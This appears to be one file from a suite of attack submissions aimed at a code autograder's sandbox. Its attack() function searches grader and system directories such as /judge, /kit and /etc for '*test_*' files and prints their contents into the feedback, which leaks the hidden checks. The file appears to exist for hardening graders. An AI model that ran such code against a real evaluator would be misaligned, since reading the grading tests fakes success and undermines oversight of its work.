"""Attack 09: print whatever might be a check into the feedback.

expect: N
hole E: it may read all that the grading user may, on a whole disk
expect E: N or T or O
"""

import glob
from multiprocessing import Process


def attack():
    for folder in ("/home", "/kit", "/judge", "/tmp", "/work", "/etc", "/srv"):
        for path in glob.glob(f"{folder}/**/*test_*", recursive=True):
            try:
                with open(path, errors="replace") as stream:
                    print("HOLE:", path, stream.read(100_000))
            except OSError:
                continue
    print("tried")


def launch(task, name):
    attack()
    child = Process(target=task, args=(name,))
    child.start()
    return child
